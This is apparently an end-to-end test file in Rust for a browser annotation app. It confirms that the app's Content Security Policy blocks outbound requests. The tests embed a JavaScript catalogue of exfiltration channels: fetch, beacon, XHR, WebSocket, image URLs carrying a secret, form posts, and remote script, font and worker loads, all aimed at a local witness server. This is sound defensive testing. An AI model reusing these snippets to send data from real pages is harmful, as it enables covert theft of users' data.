//! Nothing leaves the machine.
//!
//! The witness is a second server that answers everybody: it must hear nothing, neither from the
//! page nor from a worker that the page makes. The browser's own log would miss workers.

use crate::{annotations, article};
use e2e::{Page, Server, Setup, place};
use serde_json::{Value, json};

/// The attempts, each by a name; `address` is the witness. Each is made in the page as it would be
/// by a script that got into it.
const ATTEMPTS: &str = "
  fetch: () => fetch(address + 'fetch', { method: 'POST', body: secret }),
  opaque: () => fetch(address + 'opaque', { mode: 'no-cors', method: 'POST', body: secret }),
  beacon: () => navigator.sendBeacon(address + 'beacon', secret),
  request: () => { const r = new XMLHttpRequest(); r.open('POST', address + 'xhr'); r.send(secret) },
  socket: () => new WebSocket(address.replace('http', 'ws') + 'socket'),
  events: () => new EventSource(address + 'events'),";

/// Attempts that only a page can make.
const IN_PAGE: &str = "
  image: () => { new Image().src = address + 'image?' + secret },
  script: () => append('script', { src: address + 'script' }),
  style: () => append('link', { rel: 'stylesheet', href: address + 'style' }),
  prefetch: () => append('link', { rel: 'prefetch', href: address + 'prefetch' }),
  frame: () => append('iframe', { src: aside + 'frame' }),
  object: () => append('object', { data: aside + 'object' }),
  audio: () => append('audio', { src: address + 'audio' }).load(),
  track: () => append('video', { src: address + 'video' }).load(),
  background: () => { document.body.style.backgroundImage = `url(${address}background)` },
  font: async () => {
    const face = new FontFace('leak', `url(${address}font)`);
    document.fonts.add(face);
    await face.load();
  },
  form: () => {
    const form = append('form', { action: aside + 'form', method: 'post' });
    form.append(Object.assign(document.createElement('input'), { name: 'text', value: secret }));
    form.submit();
  },
  worker: () => new Worker(address + 'worker'),
  own_worker: () => new Worker('app.js'),
  module: () => import(address + 'module'),
  inline: () => append('script', { textContent: `fetch('${address}inline')` }),";

/// Makes all attempts, and waits until the policy has refused each. The answer tells for each what
/// the policy said. What navigates has a witness of its own.
fn refused(page: &Page, witness: &Server, aside: &Server) -> Value {
    let body = format!(
        "const [address, aside, secret] = arguments;
         const append = (tag, properties) =>
           document.body.appendChild(Object.assign(document.createElement(tag), properties));
         const attempts = {{ {ATTEMPTS} {IN_PAGE} }};
         const reports = {{}};
         for (const [name, attempt] of Object.entries(attempts)) {{
           const report = new Promise(done => document.addEventListener(
             'securitypolicyviolation', event => done(event.effectiveDirective), {{ once: true }}));
           let thrown = 'nothing';
           try {{ Promise.resolve(attempt()).catch(() => {{}}) }} catch (error) {{ thrown = error.name }}
           const late = new Promise(done => setTimeout(() => done(thrown), 2000));
           reports[name] = await Promise.race([report, late]);
         }}
         return reports;"
    );
    page.script_async(&body, &[json!(witness.address()), json!(aside.address()), json!("secret")])
}

/// The same in a worker from a blob, as the page makes one.
fn refused_in_worker(page: &Page, witness: &Server) -> Value {
    let worker = format!(
        "onmessage = async ({{ data: [address, secret] }}) => {{
           const attempts = {{ {ATTEMPTS} scripts: () => importScripts(address + 'scripts') }};
           const reports = {{}};
           for (const [name, attempt] of Object.entries(attempts)) {{
             const report = new Promise(done => self.addEventListener(
               'securitypolicyviolation', event => done(event.effectiveDirective), {{ once: true }}));
             const late = new Promise(done => setTimeout(done, 2000, 'nothing'));
             // A worker has no beacon.
             if (name === 'beacon' && !navigator.sendBeacon) continue;
             try {{ Promise.resolve(attempt()).catch(() => {{}}) }} catch {{ }}
             reports[name] = await Promise.race([report, late]);
           }}
           postMessage(reports);
         }};"
    );
    page.script_async(
        "const [source, address, secret] = arguments;
         const worker = new Worker(URL.createObjectURL(new Blob([source])));
         worker.postMessage([address, secret]);
         return await new Promise((done, failed) => {
           worker.onmessage = ({ data }) => done(data);
           worker.onerror = event => failed(new Error(event.message));
         });",
        &[json!(worker), json!(witness.address()), json!("secret")],
    )
}

fn assert_all_refused(page: &Page) {
    let witness = Server::witness();
    let aside = Server::witness();
    let reports = refused(page, &witness, &aside);
    let table = reports.as_object().expect("a table");
    assert!(table.len() >= 18, "{reports:#}");
    for (attempt, directive) in table {
        // Some are refused before the policy is asked.
        let refused = directive == "SecurityError" && attempt.contains("worker")
            || directive.as_str().is_some_and(|directive| directive.contains("-src"))
            || directive == "form-action";
        assert!(refused, "{attempt} was not refused: {reports:#}");
    }
    for (attempt, directive) in [
        ("fetch", "connect-src"),
        ("socket", "connect-src"),
        ("image", "img-src"),
        ("form", "form-action"),
        ("inline", "script-src-elem"),
    ] {
        assert_eq!(table[attempt], directive, "{attempt}");
    }
    let reports = refused_in_worker(page, &witness);
    let table = reports.as_object().expect("a table");
    assert!(table.len() >= 6, "{reports:#}");
    for (attempt, directive) in table {
        assert_ne!(directive, "nothing", "a worker's {attempt} was not refused: {reports:#}");
    }
    assert_eq!(witness.log(), Vec::<String>::new(), "the witness has heard something");
    // For frames and forms Chromium opens a connection before it asks the policy, and says nothing.
    assert!(aside.log().iter().all(|line| line == "connected"), "{:?}", aside.log());

    // The browser says so as well.
    let console = page.console();
    let reported = console.iter().filter(|line| line.contains("Content Security Policy"));
    assert!(reported.count() >= 10, "{console:#?}");
}

/// What a proxy has heard, without what the browser asks its maker for on its own.
fn asked_for(proxy: &Server) -> Vec<String> {
    const MAKER: [&str; 3] = ["google.com", "googleapis.com", "gstatic.com"];
    let mut log = proxy.log();
    log.retain(|line| {
        let target = line.split(' ').nth(1).unwrap_or_default();
        let host =
            target.trim_start_matches("http://").split(['/', ':']).next().unwrap_or_default();
        !target.is_empty() && !MAKER.iter().any(|maker| host.ends_with(maker))
    });
    log
}

/// The witness hears who may speak to it: a page without the policy.
#[test]
fn the_witness_hears() {
    let page = Page::open("witness");
    let witness = Server::witness();
    page.run(page.driver().goto(witness.address()));
    page.script_async(
        "await fetch(arguments[0] + 'fetch'); return null",
        &[json!(witness.address())],
    );
    assert!(witness.log().contains(&"GET /fetch".to_owned()), "{:?}", witness.log());

    // And as a proxy it hears what goes elsewhere.
    let page =
        Setup::new("witness-proxy").argument(&format!("--proxy-server={}", witness.host())).open();
    page.run(page.driver().goto("http://elsewhere.example/here"));
    let heard = "GET http://elsewhere.example/here".to_owned();
    assert!(asked_for(&witness).contains(&heard), "{:?}", witness.log());
}

#[test]
fn the_policy_refuses_every_way_out() {
    let page = Page::with("policy", &article("1-truce"));
    assert_all_refused(&page);
    // The page has not gone elsewhere, and the work is there.
    assert!(!page.marks().is_empty());
}

#[test]
fn only_the_page_s_own_files_are_asked_for() {
    let witness = Server::witness();
    // Whatever goes to another address than the page's own goes through the witness.
    let page =
        Setup::new("requests").argument(&format!("--proxy-server={}", witness.host())).open();
    let loaded = page.server().log();
    page.paste(&article("2-drones"));
    page.choose(&page.marks()[0].id);
    page.click("accept");
    page.download();
    page.click("language");
    page.saved();
    // Long enough for a worker, which takes the page's own glue once more.
    page.new_text();
    page.paste(&article("1-truce").repeat(40));
    page.reload();
    page.see("article");
    for request in page.server().log() {
        let file = request.strip_prefix("GET /").unwrap_or_else(|| panic!("{request}"));
        let file = if file.is_empty() { "index.html" } else { file };
        assert!(place::dist().join(file).is_file(), "asked for {request}");
    }
    assert!(loaded.len() >= 4, "{loaded:?}");
    assert_eq!(asked_for(&witness), Vec::<String>::new(), "asked for elsewhere");
    // The page keeps to its own policy, and breaks nothing else: its console is empty.
    assert_eq!(page.console(), Vec::<String>::new());
}

#[test]
fn the_single_file_works_from_a_disk_and_asks_for_nothing() {
    let witness = Server::witness();
    // Every request that is no file goes through the witness.
    let page = Setup::new("single-file")
        .single_file()
        .argument(&format!("--proxy-server={}", witness.host()))
        .argument("--proxy-bypass-list=<-loopback>")
        .open();
    let text = article("2-drones");
    page.paste(&text);
    let id = page.mark("عين عيسى").id;
    page.choose(&id);
    page.click("accept");
    page.status_is(&id, "accepted");
    let (name, file) = page.download();
    assert!(name.ends_with(".json"), "{name}");
    assert_eq!(crate::annotation(&file, &id)["status"], "accepted");
    let own = place::annotate(page.folder(), "own", &text);
    assert_eq!(annotations(&file).len(), annotations(&own).len());

    // A long text goes to the worker here as well.
    page.new_text();
    page.paste(&text.repeat(40));
    assert!(!page.marks().is_empty());
    let asked = page.script(
        "return performance.getEntriesByType('resource').map(entry => entry.name)
           .filter(name => !/^(blob|data|file):/.test(name))",
        &[],
    );
    assert_eq!(asked, json!([]));
    assert_eq!(asked_for(&witness), Vec::<String>::new(), "the single file has asked for it");
    let policy = page.script(
        "return document.querySelector('meta[http-equiv=Content-Security-Policy]').content",
        &[],
    );
    assert!(policy.as_str().unwrap_or_default().contains("connect-src 'none'"), "{policy}");
    assert_all_refused(&page);
}
